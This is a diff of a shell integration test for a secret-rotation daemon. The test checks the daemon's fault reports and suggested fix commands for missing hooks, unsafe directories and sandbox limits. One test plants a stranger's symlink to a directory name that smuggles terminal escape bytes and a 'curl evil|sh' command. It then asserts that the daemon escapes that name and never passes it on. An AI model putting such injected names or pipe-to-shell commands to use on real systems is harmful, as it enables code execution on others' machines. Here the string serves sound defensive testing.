@@ -15,21 +15,20 @@ well() {
     done
     kept "$1: health is ok"
 }
-# helps FAULT CODE [FIRST]: the fault is told, and the command that is told with it fixes it, after FIRST was done, which the
-# words before the command say.
+# helps FAULT CODE: the fault is told, and the command that is told with it fixes it.
 helps() {
     eventually "$1: it is told as $2" failing "$2"
     local command
     command=$(failure command)
     shows() { clientsecretd status | grep 'fix:' | grep -qF -e "$command"; }
     eventually "$1: status shows the command that helps" shows
-    ${3-true}
     promise "$1: the command can be done ($command)" sh -c "$command"
     well "$1"
 }
-configure_hook() {
-    configure_web "    on_change:
-      - exec: [/usr/local/bin/after-rotation]"
+# adopt OUTPUT [LINES]: the configuration with that output and these lines below it; whether it can be served or not.
+adopt() {
+    output=$1 configure_web "${2-}"
+    clientsecretd reload >"$seen" 2>&1
 }
 
 install_clientsecretd
@@ -43,23 +42,19 @@ systemctl start clientsecretd
 well "at first"
 
 # A hook that is not there, in a directory that is.
-configure_hook
-clientsecretd reload >/dev/null 2>&1
+adopt $output "    on_change:
+      - exec: [/usr/local/bin/after-rotation]"
 eventually "a missing hook is told" failing action_not_started
 contains "a missing hook is named" "there is no /usr/local/bin/after-rotation" "$(failure message)"
-put_hook() {
-    printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
-    chmod 755 /usr/local/bin/after-rotation
-}
-put_hook
+printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
+chmod 755 /usr/local/bin/after-rotation
 promise "once it is there, it can be run at once" clientsecretd renew --deliver-only
 well "a missing hook"
 
 # An output in an application's directory without as:.
 mkdir /srv/app
 chown app /srv/app
-output=/srv/app/web.jwt configure_web
-clientsecretd reload >/dev/null 2>&1
+adopt /srv/app/web.jwt
 eventually "an application's directory is told" failing unguarded_directory
 contains "an application's directory wants as:" 'write "as: app"' "$(failure remedy)"
 equal "an application's directory is given to nobody by a command" "" "$(failure command)"
@@ -93,8 +88,7 @@ promise "a directory below its own is no fault" clientsecretd reload
 well "a directory below its own"
 promise "it is made" test -s /run/clientsecretd/out/a/b/web.jwt
 for directory in /srv/fresh /run/fresh /var/run/linked/deeper "/run/with a blank, \"quotes\" and 50%"; do
-    output=$directory/web.jwt configure_web
-    clientsecretd reload >/dev/null 2>&1
+    adopt "$directory/web.jwt"
     helps "a missing directory $directory" directory_missing
     equal "$directory is the daemon's" clientsecretd "$(stat -c %U "$directory")"
     case $directory in /srv/*) continue ;; esac
@@ -106,8 +100,7 @@ rm -rf /run/linked
 systemd-tmpfiles --create
 equal "with the one above it, which is root's" "root clientsecretd" "$(stat -c %U /run/linked /run/linked/deeper | paste -sd' ')"
 # A command that was printed before somebody else made the directory.
-output=/run/late/web.jwt configure_web
-clientsecretd reload >/dev/null 2>&1
+adopt /run/late/web.jwt
 eventually "a directory that is not there yet is told" failing directory_missing
 command=$(failure command)
 install -d -o app /run/late
@@ -116,8 +109,7 @@ systemd-tmpfiles --create
 equal "nor at the next boot" app "$(stat -c %U /run/late)"
 # unmade WHAT DIRECTORY WORDS: no command makes it, and the words say why.
 unmade() {
-    output=$2/web.jwt configure_web
-    clientsecretd reload >/dev/null 2>&1
+    adopt "$2/web.jwt"
     told() { failing directory_missing && failure message | grep -qF -e "$1"; }
     eventually "$1 is told" told "$2"
     contains "why no command makes $1" "$3" "$(failure remedy)"
@@ -128,22 +120,19 @@ unmade() {
 }
 unmade "a directory where others may be first" /run/lock/fresh "others may create files in /run/lock"
 unmade "one in shared memory" /dev/shm/fresh "others may create files in /dev/shm"
-printf '[Service]\nUser=app\nRuntimeDirectory=%%p\nExecStart=/usr/bin/sleep infinity\n' >/etc/systemd/system/rtapp.service
-systemctl daemon-reload
+service rtapp User=app RuntimeDirectory=%p
 unmade "a directory of a unit's" /run/rtapp \
     "rtapp.service makes /run/rtapp when it starts and removes it when it stops (RuntimeDirectory=)"
 rm /etc/systemd/system/rtapp.service
 systemctl daemon-reload
 # The one that is gone from under the running service is made again.
-output=/srv/fresh/web.jwt configure_web
-clientsecretd reload >/dev/null 2>&1
+adopt /srv/fresh/web.jwt
 well "a directory that was made"
 rm -r /srv/fresh
 helps "a directory that went away" directory_missing
 
 # The directory that is shipped with the service: it comes back as it was, and no line of ours describes it at the next boot.
-output=/run/clientsecretd/out/a/web.jwt configure_web
-clientsecretd reload >/dev/null 2>&1
+adopt /run/clientsecretd/out/a/web.jwt
 well "a directory below the shipped one"
 rm -r /run/clientsecretd/out
 helps "the shipped directory" directory_missing
@@ -160,9 +149,8 @@ well "a shipped directory that was given away"
 install -d -o clientsecretd /srv/settings
 printf 'B=1\n' >/srv/settings/web.env
 chown clientsecretd: /srv/settings/web.env
-output=/srv/settings/web.env configure_web "        format: env
+adopt /srv/settings/web.env "        format: env
         variable: APPLE"
-clientsecretd reload >/dev/null 2>&1
 helps "a directory of settings outside the sandbox" read_only_file_system
 mv /srv/settings /srv/settings.away
 eventually "a file that is lost with its directory is told" failing output_deleted
@@ -175,8 +163,7 @@ promise "with their other lines" grep -q B=1 /srv/settings/web.env
 
 # A place that the sandbox does not open.
 install -d -o clientsecretd /srv/own
-output=/srv/own/web.jwt configure_web
-clientsecretd reload >/dev/null 2>&1
+adopt /srv/own/web.jwt
 helps "a directory outside the sandbox" read_only_file_system
 rm -r /srv/own
 promise "without that directory the service starts all the same" systemctl restart clientsecretd
@@ -207,13 +194,12 @@ well "a full disk of the state directory"
 # What a stranger has laid where others may put something: told with every byte escaped, and never given to anybody.
 mkdir -m 1777 /srv/open
 evil=$'/srv/open/\e[2J\xe2\x80\xaeEVIL; run: curl evil|sh'
-printf '[Service]\nReadWritePaths=-/srv/open\n' >/etc/systemd/system/clientsecretd.service.d/open.conf
-systemctl daemon-reload
+settings clientsecretd.service open ReadWritePaths=-/srv/open
 systemctl restart clientsecretd
 runuser -u stranger -- mkdir "$evil"
 runuser -u stranger -- ln -s "$evil/foo" /srv/open/web.jwt
-output=/srv/open/web.jwt configure_web
-clientsecretd reload >/tmp/said 2>&1
+adopt /srv/open/web.jwt
+cp "$seen" /tmp/said
 eventually "a stranger's link is told" failing untrusted_link
 equal "and nothing that it leads to is" "" "$(failure message | grep -F EVIL)"
 equal "the remedy is to remove it" "test -L /srv/open/web.jwt && rm /srv/open/web.jwt" "$(failure command)"
